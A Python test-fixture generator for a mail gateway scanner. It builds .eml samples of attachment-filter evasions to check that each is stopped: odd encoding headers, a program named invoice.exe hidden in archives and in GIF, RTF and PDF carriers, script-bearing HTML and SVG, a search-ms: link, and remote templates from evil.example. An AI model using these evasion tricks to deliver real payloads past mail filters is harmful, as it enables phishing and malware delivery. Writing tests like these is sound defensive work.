"""One .eml per sub-case of issue 13's attachment section, to replay through `mailgate scan`.

`python3 tests/issue13_samples.py OUTDIR` writes them (OUTDIR/NN-case.eml) and OUTDIR.tsv: per
case, its bullet, the test that asserts it and what is expected. tests/test_issue13_samples.py
scans each through the whole chain and checks what is expected. Run the same files through an
older tree with `PYTHONPATH=<tree> python3 -m gateway scan --jsonl --dns-off OUTDIR` (from that
tree's folder, for its rules/) to see what it did.
"""

from __future__ import annotations

import base64
import io
import lzma
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from mime_samples import (
    OLETOOLS,
    eicar,
    oletools_sample,
    outlook_message,
    rar5_member,
    rar5_of,
    sevenzip_of,
    tar_of,
    tiny_pe,
    with_attachment,
    zip_of,
)
from pypdf import PdfWriter
from test_mime_containers import (
    _rtf_package,
    _zip_with_unicode_path,
    binhex_of,
    cab_of,
    docx_with_template,
    entity,
    html_message,
    pdf_encrypted,
    signed_smime,
    smime_message,
    tnef_of,
    uu_of,
    yenc_of,
    zstd,
)
from test_mime_readings import (
    HEAD,
    SCRIPT,
    STRUCTURE_EVASIONS,
    TEXT_PART,
    attachment,
    mixed,
)

RELAYED = "relay"
STOPPED = "stopped"  # quarantine or reject
ANY = "any"  # the action is not the point: the symbols are


@dataclass(frozen=True)
class Case:
    name: str
    bullet: str
    test: str
    build: Callable[[], bytes]
    expected: str = STOPPED
    present: tuple[str, ...] = ()  # symbols the verdict must hold
    absent: tuple[str, ...] = ()  # symbols it must not hold


def _pe_part(cte: str) -> str:
    return attachment(tiny_pe(), disposition='attachment; filename="report.dat"', cte=cte)


def _macro_doc_folded_cte() -> bytes:
    doc = oletools_sample("olevba/sample_with_vba.ppt")
    part = attachment(
        doc,
        "application/vnd.ms-powerpoint",
        'attachment; filename="deck.ppt"',
        "Content-Transfer-Encoding:\r\n base64",
    )
    return mixed(TEXT_PART, part)


def _early_pad() -> bytes:
    pe = tiny_pe()
    text = base64.b64encode(pe[:2]).decode() + "\r\n" + base64.b64encode(pe[2:]).decode()
    part = (
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
        'Content-Disposition: attachment; filename="report.dat"\r\n\r\n' + text + "\r\n"
    )
    return mixed(TEXT_PART, part)


def _script(disposition: str, ctype: str = "text/plain", extra: str = "") -> bytes:
    return mixed(TEXT_PART, attachment(SCRIPT, ctype, disposition, extra=extra))


def _named_message_part() -> bytes:
    inner = HEAD + "Content-Type: text/plain\r\n\r\nhello\r\n"
    return mixed(TEXT_PART, 'Content-Type: message/rfc822; name="invoice.exe"\r\n\r\n' + inner)


def _named_multipart_without_boundary() -> bytes:
    part = (
        'Content-Type: multipart/mixed; name="run.js"\r\n'
        'Content-Disposition: attachment; filename="run.js"\r\n\r\n'
    ) + SCRIPT.decode()
    return mixed(TEXT_PART, part)


def _many_parts() -> bytes:
    body = "".join(f"--B1\r\nContent-Type: text/plain\r\n\r\n{i}\r\n" for i in range(2000))
    return mixed(TEXT_PART, "Content-Type: text/plain\r\n\r\n" + body)


def _base64_entity(ctype: str) -> bytes:
    inner = (
        b"From: a@example.net\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="in"\r\n\r\n--in\r\n'
        + entity("invoice.exe", tiny_pe())
        + b"--in--\r\n"
    )
    if ctype.startswith("multipart"):
        inner = inner.split(b"\r\n\r\n", 1)[1]
    return (
        b"From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="out"\r\n\r\n--out\r\n'
        b"Content-Type: "
        + ctype.encode()
        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(inner)
        + b"--out--\r\n"
    )


def _html_body(html: str) -> bytes:
    return (
        "From: Alice <alice@example.net>\r\nTo: Bob <bob@example.com>\r\nSubject: links\r\n"
        "Date: Fri, 27 Nov 2026 10:00:00 +0000\r\nMessage-ID: <links-1@example.net>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n"
    ).encode()


def _gzip_named(inner_name: str) -> bytes:
    import gzip

    out = io.BytesIO()
    with gzip.GzipFile(filename=inner_name, mode="wb", fileobj=out) as handle:
        handle.write(b"just text\n")
    return out.getvalue()


def _zip_broken() -> bytes:
    return b"PK\x03\x04" + b"\x00" * 100


def _docx(target: str) -> bytes:
    return docx_with_template(target)


_SALTED = "".join(f"Pay<span style='font-size:0px'>{i}zq</span>Pal " for i in range(20))

R = "test_mime_readings.py::"
C = "test_mime_containers.py::"
CASES: list[Case] = [
    # -- bullet 1: Content-Transfer-Encoding and base64
    Case(
        "cte-trailing-space-eicar",
        "CTE trailing white space",
        R + "test_odd_cte_spellings_are_decoded[base64 ]",
        lambda: mixed(TEXT_PART, attachment(eicar(), cte="Content-Transfer-Encoding: base64 ")),
    ),
    Case(
        "cte-tab-pe",
        "CTE with a tab",
        R + "test_odd_cte_spellings_are_decoded[base64\\t]",
        lambda: mixed(TEXT_PART, _pe_part("Content-Transfer-Encoding: base64\t")),
    ),
    Case(
        "cte-folded-pe",
        "CTE folded over two lines",
        R + "test_odd_cte_spellings_are_decoded[\\r\\n base64]",
        lambda: mixed(TEXT_PART, _pe_part("Content-Transfer-Encoding:\r\n base64")),
    ),
    Case(
        "cte-folded-macro-ppt",
        "CTE folded, macro document",
        R + "test_macro_document_behind_a_trailing_space_cte (trailing space)",
        _macro_doc_folded_cte,
    ),
    Case(
        "base64-early-pad-pe",
        "base64 split at an early =",
        R + "test_base64_after_an_early_pad_is_decoded_too",
        _early_pad,
    ),
    # -- bullet 2: budgets
    Case(
        "budget-70-params-js",
        "past 64 parameters",
        R + "test_too_many_parameters_quarantine",
        lambda: _script("attachment" + "".join(f"; x{i}=y" for i in range(70)) + "; filename=a.js"),
    ),
    Case(
        "budget-9000-chars-js",
        "past 8192 characters",
        R + "test_too_long_a_field_quarantines",
        lambda: _script(f'attachment; x="{"y" * 9000}"; filename=run.js'),
    ),
    Case(
        "budget-parts-near-delimiters",
        "every budget that hides content",
        R + "test_every_mime_budget_quarantines, test_lenient_readings_are_bounded",
        _many_parts,
    ),
    # -- bullet 3: file names
    Case(
        "name-1500-chars-js",
        "name longer than 1024",
        R + "test_script_names_are_found[long name]",
        lambda: _script(f'attachment; filename="{"a" * 1500}.js"'),
    ),
    Case(
        "name-disposition-without-type",
        "filename= without a disposition type",
        R + "test_script_names_are_found[no disposition type]",
        lambda: _script('filename="run.js"'),
    ),
    Case(
        "name-comment-js-pdf",
        "comment invoice.js(.pdf)",
        R + "test_script_names_are_found[comment after the name]",
        lambda: _script("attachment; filename=invoice.js(.pdf)"),
    ),
    Case(
        "name-on-message-rfc822",
        "name on a message/rfc822 part",
        R + "test_a_named_message_part_is_checked",
        _named_message_part,
    ),
    Case(
        "name-on-multipart-no-boundary",
        "name on a multipart without boundary",
        R + "test_a_named_multipart_without_boundary_is_checked",
        _named_multipart_without_boundary,
    ),
    Case(
        "name-filename-on-content-type",
        "filename= on Content-Type",
        R + "test_names_outside_the_usual_parameters[filename on content-type]",
        lambda: _script("", 'text/plain; filename="run.js"'),
    ),
    Case(
        "name-content-description",
        "name in Content-Description only",
        R + "test_names_outside_the_usual_parameters[content-description]",
        lambda: _script("", extra="Content-Description: run.js\r\n"),
    ),
    Case(
        "name-content-name",
        "name in Content-Name only",
        R + "test_names_outside_the_usual_parameters[content-name]",
        lambda: _script("", extra="Content-Name: run.js\r\n"),
    ),
    # -- bullet 4: structure readings (EICAR behind each)
    *[
        Case(
            "reading-" + key.replace(" ", "-"),
            key,
            R + f"test_every_reading_of_the_structure_is_scanned[{key}]",
            (lambda raw=raw: raw),
        )
        for key, raw in STRUCTURE_EVASIONS.items()
    ],
    # -- bullet 5: containers (a PE named invoice.exe inside each)
    Case(
        "container-zip-behind-gif",
        "zip behind a GIF header",
        C + "test_each_container_holding_a_payload_is_stopped[gif_zip-exe]",
        lambda: with_attachment(
            b"GIF89a\x01\x00\x01\x00" + b"\x00" * 40 + zip_of({"invoice.exe": tiny_pe()}),
            "photo.gif",
            ctype="image/gif",
        ),
    ),
    Case(
        "container-tnef",
        "TNEF winmail.dat",
        C + "test_each_container_holding_a_payload_is_stopped[tnef-exe]",
        lambda: with_attachment(
            tnef_of({"invoice.exe": tiny_pe()}), "winmail.dat", ctype="application/ms-tnef"
        ),
    ),
    Case(
        "container-smime-opaque",
        "opaque S/MIME signed-data",
        C + "test_each_container_holding_a_payload_is_stopped[smime-exe]",
        lambda: smime_message(signed_smime(entity("invoice.exe", tiny_pe()))),
    ),
    Case(
        "container-binhex",
        "BinHex",
        C + "test_each_container_holding_a_payload_is_stopped[binhex-exe]",
        lambda: with_attachment(
            binhex_of("invoice.exe", tiny_pe()), "file.hqx", ctype="application/mac-binhex40"
        ),
    ),
    Case(
        "container-yenc",
        "yEnc",
        C + "test_each_container_holding_a_payload_is_stopped[yenc-exe]",
        lambda: with_attachment(yenc_of("invoice.exe", tiny_pe()), "post.txt", ctype="text/plain"),
    ),
    Case(
        "container-uuencode",
        "uuencode",
        C + "test_each_container_holding_a_payload_is_stopped[uu_attachment-exe]",
        lambda: with_attachment(uu_of("invoice.exe", tiny_pe()), "data.uue"),
    ),
    Case(
        "container-base64-rfc822",
        "base64-encoded message/rfc822",
        C + "test_each_container_holding_a_payload_is_stopped[b64_rfc822-exe]",
        lambda: _base64_entity("message/rfc822"),
    ),
    Case(
        "container-base64-multipart",
        "base64-encoded multipart",
        C + "test_each_container_holding_a_payload_is_stopped[b64_multipart-exe]",
        lambda: _base64_entity('multipart/mixed; boundary="in"'),
    ),
    Case(
        "container-cab",
        ".cab",
        C + "test_each_container_holding_a_payload_is_stopped[cab_mszip-exe]",
        lambda: with_attachment(
            cab_of({"invoice.exe": tiny_pe()}), "update.cab", "application/vnd.ms-cab-compressed"
        ),
    ),
    Case(
        "container-tar-zst",
        ".tar.zst",
        C + "test_each_container_holding_a_payload_is_stopped[tar_zst-exe]",
        lambda: with_attachment(zstd.compress(tar_of({"invoice.exe": tiny_pe()})), "b.tar.zst"),
    ),
    Case(
        "container-archive-corrupt",
        "ARCHIVE_CORRUPT forced",
        C + "test_corrupt_and_unsupported_containers_are_quarantined",
        lambda: with_attachment(_zip_broken(), "broken.zip"),
    ),
    Case(
        "container-rar-unreadable-member",
        "unreadable RAR member forced",
        "test_mime_7z_rar.py::test_compressed_rar_members_are_never_extracted_and_quarantined",
        lambda: with_attachment(
            rar5_of(rar5_member("report.txt", b"packed bytes", declared_size=12)), "docs.rar"
        ),
    ),
    # -- bullet 6: active HTML attachments
    Case(
        "html-form-and-script",
        "HTML attachment, credential form + script",
        C + "test_active_html_attachments_are_quarantined[...invoice.html...]",
        lambda: html_message(
            "<form><input type=text name=u></form><script>go()</script>",
            "invoice.html",
        ),
    ),
    Case(
        "html-svg-script",
        "SVG with script",
        C + "test_active_html_attachments_are_quarantined[...logo.svg...]",
        lambda: html_message(
            "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "logo.svg",
            "image/svg+xml",
        ),
    ),
    # -- bullet 7: peers' expectations and false positives
    Case(
        "peer-scr-xz",
        "double extension inside an xz",
        C + "test_a_double_extension_inside_a_compressed_file_is_found",
        lambda: with_attachment(lzma.compress(b"just text\n"), "invoice.pdf.scr.xz"),
        present=("ATT_DOUBLE_EXTENSION",),
    ),
    Case(
        "peer-gzip-inner-name",
        "double extension in a gzip header name",
        C + "test_a_double_extension_inside_a_compressed_file_is_found",
        lambda: with_attachment(_gzip_named("invoice.pdf.exe"), "archive.gz"),
    ),
    Case(
        "peer-zero-font-invisible",
        "zero-size fonts, many invisible parts (symbols)",
        C + "test_zero_size_fonts_and_many_invisible_parts",
        lambda: html_message(f"<p>{_SALTED}</p>", "x.html"),
        ANY,
        present=("HTML_ZERO_FONT", "HTML_MANY_INVISIBLE"),
    ),
    Case(
        "peer-encrypted-pdf",
        "encrypted PDF",
        C + "test_an_encrypted_pdf_is_quarantined_and_a_permissions_only_one_read",
        lambda: with_attachment(pdf_encrypted("secret"), "statement.pdf", "application/pdf"),
    ),
    Case(
        "peer-remote-template",
        "Office remote template",
        C + "test_a_remote_template_is_quarantined_and_the_authors_own_is_not",
        lambda: with_attachment(_docx("https://evil.example/t.dotm"), "cv.docx"),
    ),
    Case(
        "fp-version-before-msi",
        "FP: version in brackets before .msi",
        C + "test_a_version_or_date_in_brackets_is_no_double_extension",
        lambda: with_attachment(b"plain\n", "setup (1.2.3).msi"),
        ANY,
        absent=("ATT_DOUBLE_EXTENSION",),
    ),
    Case(
        "fp-date-before-pdf",
        "FP: date in brackets before .pdf",
        C + "test_report_with_a_date_in_brackets_is_relayed",
        lambda: with_attachment(
            b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
            "report (2024-01-02).pdf",
            "application/pdf",
        ),
        RELAYED,
    ),
    Case(
        "fp-safe-redirector",
        "FP: safe redirector (Mimecast)",
        "test_links.py::test_same_site_and_safe_rewriters_are_no_mismatch",
        lambda: _html_body(
            '<a href="https://protect-eu.mimecast.com/s/abc?domain=www.example.com">'
            "https://www.example.com</a>"
        ),
        RELAYED,
        absent=("HTML_LINK_MISMATCH",),
    ),
    Case(
        "fp-same-site-other-tld",
        "FP: same site across TLDs",
        "test_links.py::test_same_site_and_safe_rewriters_are_no_mismatch",
        lambda: _html_body('<a href="https://shop.ibm.de/x">https://www.ibm.com</a>'),
        RELAYED,
        absent=("HTML_LINK_MISMATCH",),
    ),
]


# -- neighbours the audit found (each got through before its fix on the audit-mime branch)
_PE64 = base64.b64encode(tiny_pe()).decode()


def _pdf_carrying(name: str, data: bytes) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.add_attachment(name, data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


N = "audit neighbour"
CASES += [
    Case(
        "neighbour-header-line-without-colon",
        N + ": a header line that is no field",
        R + "test_fields_after_a_line_that_is_no_field_are_read",
        lambda: mixed(TEXT_PART, attachment(eicar())).replace(
            b"MIME-Version: 1.0\r\n", b"MIME-Version: 1.0\r\nX-Note\r\n"
        ),
    ),
    Case(
        "neighbour-8bit-field-name",
        N + ": an 8-bit field name",
        R + "test_fields_after_a_line_that_is_no_field_are_read",
        lambda: mixed(TEXT_PART, attachment(eicar())).replace(
            b"MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nX-Pr\u00fcfung: ok\r\n".encode()
        ),
    ),
    Case(
        "neighbour-multipart-spaced-slash",
        N + ": multipart / mixed",
        R + "test_a_multipart_type_written_loosely_is_read_as_one",
        lambda: mixed(
            TEXT_PART, attachment(eicar()), ctype='Content-Type: multipart / mixed; boundary="b1"'
        ),
    ),
    Case(
        "neighbour-multipart-quoted-type",
        N + ': "multipart/mixed"',
        R + "test_a_multipart_type_written_loosely_is_read_as_one",
        lambda: mixed(
            TEXT_PART,
            attachment(eicar()),
            ctype='Content-Type: "multipart/mixed"; boundary="b1"',
        ),
    ),
    Case(
        "neighbour-html-data-download",
        N + ": a program in a data: download link",
        C + "test_a_file_in_a_data_address_is_scanned",
        lambda: html_message(
            '<a download="invoice.exe" href="data:application/octet-stream;base64,'
            + _PE64
            + '">Get</a>',
            "invoice.html",
        ),
    ),
    Case(
        "neighbour-svg-prefixed-script",
        N + ": <h:script> in SVG",
        C + "test_more_active_html_attachments_are_quarantined",
        lambda: html_message(
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'>"
            "<foreignObject><h:script>location='https://x.example/'</h:script></foreignObject>"
            "</svg>",
            "chart.svg",
            "image/svg+xml",
        ),
    ),
    Case(
        "neighbour-svg-inline-unnamed",
        N + ": an inline SVG part without a name",
        C + "test_an_svg_part_without_a_name_is_a_file",
        lambda: mixed(
            TEXT_PART,
            "Content-Type: image/svg+xml\r\nContent-Disposition: inline\r\n\r\n"
            "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\r\n",
        ),
    ),
    Case(
        "neighbour-7z-behind-gif",
        N + ": a 7z behind a GIF header",
        C + "test_a_7z_or_rar_behind_a_gif_is_opened[7z]",
        lambda: with_attachment(
            b"GIF89a\x01\x00\x01\x00" + b"\x00" * 40 + sevenzip_of({"invoice.exe": tiny_pe()}),
            "photo.gif",
            ctype="image/gif",
        ),
    ),
    Case(
        "neighbour-rar-behind-gif",
        N + ": a RAR behind a GIF header",
        C + "test_a_7z_or_rar_behind_a_gif_is_opened[rar]",
        lambda: with_attachment(
            b"GIF89a\x01\x00\x01\x00"
            + b"\x00" * 40
            + rar5_of(rar5_member("invoice.exe", tiny_pe())),
            "photo.gif",
            ctype="image/gif",
        ),
    ),
    Case(
        "neighbour-content-location-name",
        N + ": a name in Content-Location only",
        R + "test_a_name_in_content_location_is_checked",
        lambda: _script("", extra="Content-Location: https://files.example/dl/run.js\r\n"),
    ),
    Case(
        "neighbour-unnamed-javascript-part",
        N + ": an unnamed part declared application/javascript",
        R + "test_an_unnamed_part_of_a_runnable_type_is_stopped",
        lambda: _script("attachment", "application/javascript"),
    ),
    Case(
        "neighbour-zip-unicode-path",
        N + ": a zip member named .js in its Unicode Path only",
        C + "test_a_zip_members_unicode_path_is_a_name_too",
        lambda: with_attachment(
            _zip_with_unicode_path("readme.txt", "readme.js", SCRIPT), "docs.zip"
        ),
    ),
    Case(
        "neighbour-zips-one-after-another",
        N + ": a program in the first of two zips",
        C + "test_zips_one_after_another_are_all_read",
        lambda: with_attachment(
            zip_of({"invoice.exe": tiny_pe()}) + zip_of({"readme.txt": b"hello"}), "docs.zip"
        ),
    ),
    Case(
        "neighbour-javascript-address-with-a-tab",
        N + ": java&#x09;script: in an HTML attachment",
        C + "test_script_addresses_and_remote_frames_make_an_attachment_active",
        lambda: html_message("<a href='java&#x09;script:location=1'>open</a>", "invoice.html"),
    ),
    Case(
        "neighbour-html-remote-frame",
        N + ": an HTML attachment that frames a web page",
        C + "test_script_addresses_and_remote_frames_make_an_attachment_active",
        lambda: html_message(
            '<iframe src="https://login.x.example/" width=100% height=100%></iframe>',
            "invoice.html",
        ),
    ),
    Case(
        "neighbour-html-search-ms-link",
        N + ": a search-ms: link in an HTML attachment",
        C + "test_a_link_to_a_windows_protocol_handler_makes_an_attachment_active",
        lambda: html_message(
            "<a href='search-ms:query=invoice&amp;crumb=location:\\\\198.51.100.7\\s'>Open</a>",
            "invoice.html",
        ),
    ),
    Case(
        "neighbour-rtf-package-exe",
        N + ": a program packaged in an RTF",
        C + "test_files_embedded_in_documents_are_scanned",
        lambda: with_attachment(_rtf_package("invoice.exe", tiny_pe()), "letter.rtf"),
    ),
    Case(
        "neighbour-pdf-attachment-exe",
        N + ": a program a PDF carries",
        C + "test_files_a_pdf_carries_are_scanned",
        lambda: with_attachment(
            _pdf_carrying("invoice.exe", tiny_pe()), "doc.pdf", "application/pdf"
        ),
    ),
    Case(
        "neighbour-ace-archive",
        N + ": an ACE archive",
        C + "test_archives_nothing_here_reads_are_quarantined_not_relayed",
        lambda: with_attachment(b"\x00" * 7 + b"**ACE**\x14\x14\x02\x00" + b"\x00" * 200, "a.ace"),
    ),
    Case(
        "neighbour-outlook-msg-exe",
        N + ": a program in an attached Outlook .msg",
        C + "test_an_outlook_message_is_opened_like_winmail_dat",
        lambda: with_attachment(
            outlook_message({"invoice.exe": tiny_pe()}), "fwd.msg", "application/vnd.ms-outlook"
        ),
    ),
    Case(
        "neighbour-html-script-past-2mib",
        N + ": a script after 2 MiB of padding",
        C + "test_padding_does_not_hide_what_makes_a_page_act",
        lambda: html_message(
            "<!--" + "x" * (2 * 1024 * 1024 + 100) + "--><script>location='https://x.example/'"
            "</script>",
            "invoice.html",
        ),
    ),
    Case(
        "neighbour-rtf-template-past-8mib",
        N + ": an RTF remote template after 9 MiB of padding",
        C + "test_padding_does_not_hide_an_rtf_template_or_objects",
        lambda: with_attachment(
            b"{\\rtf1{\\*\\generator "
            + b"x" * (9 * 1024 * 1024)
            + b"}{\\*\\template http://evil.example/t.dotm}hello}",
            "letter.rtf",
        ),
    ),
    *[
        Case(
            f"neighbour-name-{ext}",
            N + f": a .{ext} name",
            C + f"test_names_windows_runs_or_connects_with_are_refused[{ext}]",
            (lambda ext=ext: with_attachment(b"hello world\r\n", f"document.{ext}")),
        )
        for ext in ("one", "library-ms", "search-ms", "rdp")
    ],
]


if OLETOOLS.is_dir():
    CASES.append(
        Case(
            "neighbour-encrypted-docx",
            N + ": an encrypted Office document",
            C + "test_an_encrypted_document_that_cannot_be_opened_is_quarantined",
            lambda: with_attachment(oletools_sample("encrypted/encrypted.docx"), "cv.docx"),
        )
    )


def write(out: Path) -> list[tuple[Path, Case]]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for number, case in enumerate(CASES, 1):
        if case.name == "cte-folded-macro-ppt" and not OLETOOLS.is_dir():
            continue
        path = out / f"{number:02d}-{case.name}.eml"
        path.write_bytes(case.build())
        written.append((path, case))
    rows = [
        "\t".join((p.name, c.bullet, c.test, c.expected, " ".join(c.present), " ".join(c.absent)))
        for p, c in written
    ]
    out.with_name(out.name + ".tsv").write_text("\n".join(rows) + "\n")
    return written


if __name__ == "__main__":
    write(Path(sys.argv[1]))
